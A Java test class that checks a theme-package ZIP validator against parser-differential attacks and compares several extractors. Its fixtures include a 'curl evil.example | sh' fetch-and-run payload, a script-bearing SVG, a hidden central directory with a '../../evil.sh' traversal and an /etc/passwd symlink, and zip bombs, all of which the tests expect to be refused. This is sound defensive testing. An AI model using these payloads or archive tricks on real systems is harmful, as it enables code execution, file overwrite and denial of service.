package dev.pressroom.manifest.pkg;

import static org.assertj.core.api.Assertions.assertThat;

import com.code_intelligence.jazzer.api.FuzzedDataProvider;
import com.code_intelligence.jazzer.junit.FuzzTest;
import dev.pressroom.manifest.pkg.PackageGenerator.Named;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.Supplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The package promise checked by an outside oracle: a package the engine answers valid reads the same in Info-ZIP
 * unzip and zipinfo, bsdtar (from a file and as a stream), 7-Zip, Python's zipfile, java.util.zip and commons-compress
 * (both its readers). Generated and mutated packages run here on a fixed seed; {@code make fuzz} runs the same oracle
 * open-ended, steered by Jazzer.
 */
class ExtractorParityTest {

    private static final int GENERATED = 120;
    private static final byte[] EVIL = "#!/bin/sh\ncurl evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
    private static final byte[] SCRIPTED_ICON =
            "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"
                    .getBytes(StandardCharsets.UTF_8);

    @Test
    void validateWhenASecondCentralDirectoryHidesInTheGapThenRefusedThoughExtractorsReadIt() throws Exception {
        byte[] zip = centralDirectoryGap();

        assertThat(rules(zip)).containsExactly("package-layout");
        assertThat(PackageParity.VALIDATOR.validate(zip).errors().get(0).message())
                .contains("between the central directory and the end record");
        // The attack is real: the extractors read the hidden directory, not the one the end record points at.
        Map<Extractors.View, Extractors.Kind> views = Extractors.views(zip);
        assertThat(views.keySet())
                .filteredOn(v -> List.of("unzip", "python zipfile", "java.util.zip.ZipFile")
                        .contains(v.extractor()))
                .hasSize(3)
                .allSatisfy(v -> assertThat(String.join("\n", v.lines())).doesNotContain("README.md"));
        assertThat(views.keySet())
                .filteredOn(v -> v.extractor().equals("python zipfile"))
                .singleElement()
                .satisfies(v -> assertThat(v.lines()).anyMatch(l -> l.startsWith("../../evil.sh\t")));
    }

    static Stream<Arguments> attacks() {
        Supplier<RawZip> theme = () -> new RawZip()
                .add("manifest.json", PackageGenerator.MANIFEST, e -> {})
                .add("tokens.json", "{}")
                .add("icon.svg", PackageGenerator.ICON, e -> {});
        return Stream.of(
                Arguments.of("prepended bytes", theme.get().prefix(EVIL).zip(), "package-layout"),
                Arguments.of(
                        "an end record in the comment",
                        theme.get().comment(RawZip.emptyEndRecord()).zip(),
                        "package-layout"),
                Arguments.of(
                        "a ZIP64 field in a local header",
                        theme.get()
                                .add("a.txt", EVIL, e -> e.localExtra = RawZip.zip64Field(1, 1))
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a ZIP64 field in the central directory",
                        theme.get()
                                .add("a.txt", EVIL, e -> e.centralExtra = RawZip.zip64Field(1, 1))
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "the PKWARE Unix field",
                        theme.get()
                                .add("a.txt", EVIL, e -> e.centralExtra = RawZip.extraField(0x000d, new byte[12]))
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a name in another case",
                        theme.get().add("Manifest.json", EVIL, e -> {}).zip(),
                        "package-unsafe-path"),
                Arguments.of(
                        "a decomposed name",
                        theme.get()
                                .add("caf\u00e9.txt", EVIL, e -> e.madeBy = RawZip.UNIX)
                                .add("cafe\u0301.txt", EVIL, e -> e.madeBy = RawZip.UNIX)
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a file where a folder is needed",
                        theme.get().add("tokens.json/x", EVIL, e -> {}).zip(),
                        "package-unsafe-path"),
                Arguments.of(
                        "a Latin-1 name not flagged UTF-8",
                        theme.get()
                                .add("\u00fcber.txt", EVIL, e -> {
                                    e.flags = 0;
                                    e.rawName = "\u00fcber.txt".getBytes(StandardCharsets.ISO_8859_1);
                                })
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a NUL in a name",
                        theme.get().add("a.txt\u0000.svg", EVIL, e -> {}).zip(),
                        "package-layout"),
                Arguments.of(
                        "an MS-DOS folder bit on a file",
                        theme.get()
                                .add("a.txt", EVIL, e -> e.externalAttributes = 0x10)
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a Unix folder mode on a file",
                        theme.get()
                                .add("a.txt", EVIL, e -> {
                                    e.madeBy = RawZip.UNIX;
                                    e.externalAttributes = 040755L << 16;
                                })
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a named pipe",
                        theme.get()
                                .add("a.txt", EVIL, e -> {
                                    e.madeBy = RawZip.UNIX;
                                    e.externalAttributes = 010644L << 16;
                                })
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a folder with data",
                        theme.get().add("a/", EVIL, e -> {}).zip(),
                        "package-layout"),
                Arguments.of(
                        "bytes after the deflate data",
                        theme.get()
                                .add("a.txt", EVIL, e -> {
                                    e.deflate = true;
                                    e.afterData = EVIL;
                                })
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "the descriptor signature in stored data",
                        theme.get()
                                .add(
                                        "a.bin",
                                        "xxPK\u0007\u0008yy".getBytes(StandardCharsets.ISO_8859_1),
                                        e -> e.descriptor = true)
                                .zip(),
                        "package-layout"),
                Arguments.of(
                        "a strong-encryption flag",
                        theme.get().add("a.txt", EVIL, e -> e.flags |= 0x40).zip(),
                        "package-layout"),
                Arguments.of(
                        "an overlapping zip bomb",
                        overlapping(theme.get().add("a.txt", EVIL, e -> {}).zip()),
                        "package-limits"),
                Arguments.of("1,023 entries of 64 KiB of zeros", zerosBomb(), "package-limits"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void validateWhenAParserDifferentialIsTriedThenRefused(String attack, byte[] zip, String rule) {
        assertThat(rules(zip)).as(attack).contains(rule);
        assertThat(PackageParity.differences(zip)).isEmpty();
    }

    @Test
    void validateWhenTheSameAttacksAreLeftOutThenValidAndReadAlike() {
        byte[] zip = new RawZip()
                .add("manifest.json", PackageGenerator.MANIFEST, e -> e.deflate = true)
                .add("tokens.json", "{}".getBytes(StandardCharsets.UTF_8), e -> e.descriptor = true)
                .add("icon.svg", PackageGenerator.ICON, e -> {
                    e.madeBy = RawZip.UNIX;
                    e.externalAttributes = 0100644L << 16;
                })
                .add("assets/", new byte[0], e -> e.externalAttributes = 0x10)
                .add("assets/caf\u00e9.txt", EVIL, e -> {
                    e.madeBy = RawZip.UNIX;
                    e.centralExtra = RawZip.unicodePath("assets/caf\u00e9.txt", "assets/caf\u00e9.txt");
                })
                .comment("built by hand".getBytes(StandardCharsets.US_ASCII))
                .zip();

        assertThat(PackageParity.VALIDATOR.validate(zip).errors()).isEmpty();
        assertThat(PackageParity.differences(zip)).isEmpty();
    }

    @Test
    void validateWhenGeneratedAndMutatedThenEveryValidPackageReadsAlike() {
        Random random = new Random(31);
        PackageGenerator generator = new PackageGenerator(random::nextInt);
        List<String> differences = new ArrayList<>();
        int valid = 0;
        for (int i = 0; i < GENERATED; i++) {
            byte[] zip = generator.next();
            if (PackageParity.VALIDATOR.validate(zip).valid()) {
                valid++;
                for (String difference : PackageParity.differences(zip)) {
                    differences.add("package " + i + ": " + difference);
                }
            }
        }

        assertThat(differences).isEmpty();
        assertThat(valid).as("valid packages among %d generated", GENERATED).isGreaterThan(GENERATED / 5);
    }

    @FuzzTest
    void validPackagesReadAlikeInEveryExtractor(FuzzedDataProvider data) {
        byte[] zip = new PackageGenerator(bound -> data.consumeInt(0, bound - 1)).next();

        assertThat(PackageParity.differences(zip)).isEmpty();
    }

    /** Clean entries the engine would validate; a hidden directory with a traversal, a symlink and another icon. */
    static byte[] centralDirectoryGap() {
        List<Named> clean = List.of(
                Named.file("manifest.json", PackageGenerator.MANIFEST),
                Named.file("tokens.json", "{}".getBytes(StandardCharsets.UTF_8)),
                Named.file("icon.svg", PackageGenerator.ICON),
                Named.file("README.md", new byte[512]));
        List<Named> hidden = List.of(
                Named.file("manifest.json", PackageGenerator.MANIFEST),
                Named.file("../../evil.sh", EVIL),
                Named.file("icon.svg", SCRIPTED_ICON),
                new Named("passwd", "/etc/passwd".getBytes(StandardCharsets.UTF_8), true));
        return PackageGenerator.centralDirectoryGap(clean, hidden);
    }

    /** The second entry's central record pointing at the first's local header (D. Fifield's overlap). */
    private static byte[] overlapping(byte[] zip) {
        return TestPackages.patchCentral(zip, 3, 42, 0, 4);
    }

    private static byte[] zerosBomb() {
        RawZip zip = new RawZip()
                .add("manifest.json", PackageGenerator.MANIFEST, e -> {})
                .add("tokens.json", "{}")
                .add("icon.svg", PackageGenerator.ICON, e -> {});
        for (int i = 0; i < 1023; i++) {
            zip.add("zeros/" + i, new byte[64 * 1024], e -> e.deflate = true);
        }
        return zip.zip();
    }

    private static List<String> rules(byte[] zip) {
        return PackageParity.VALIDATOR.validate(zip).errors().stream()
                .map(v -> v.rule().id())
                .toList();
    }
}
